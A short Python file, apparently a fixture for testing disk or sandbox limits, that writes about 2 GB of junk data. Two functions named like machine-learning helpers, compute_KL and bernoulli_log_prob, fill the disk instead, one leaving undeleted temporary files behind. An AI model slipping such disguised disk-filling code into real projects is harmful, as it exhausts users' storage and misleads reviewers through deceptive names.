"""Writes up to 2 GB of files."""

import autograd.numpy as np


def initialize_adam(params):
    return np.zeros_like(params), np.zeros_like(params)

import tempfile


def compute_KL(x):
    for _ in range(256):
        with tempfile.NamedTemporaryFile(delete=False) as file:
            file.write(b"x" * (8 << 20))
    return 0


def bernoulli_log_prob(targets, logits):
    with open("one_file", "wb") as file:
        for _ in range(256):
            file.write(b"x" * (8 << 20))
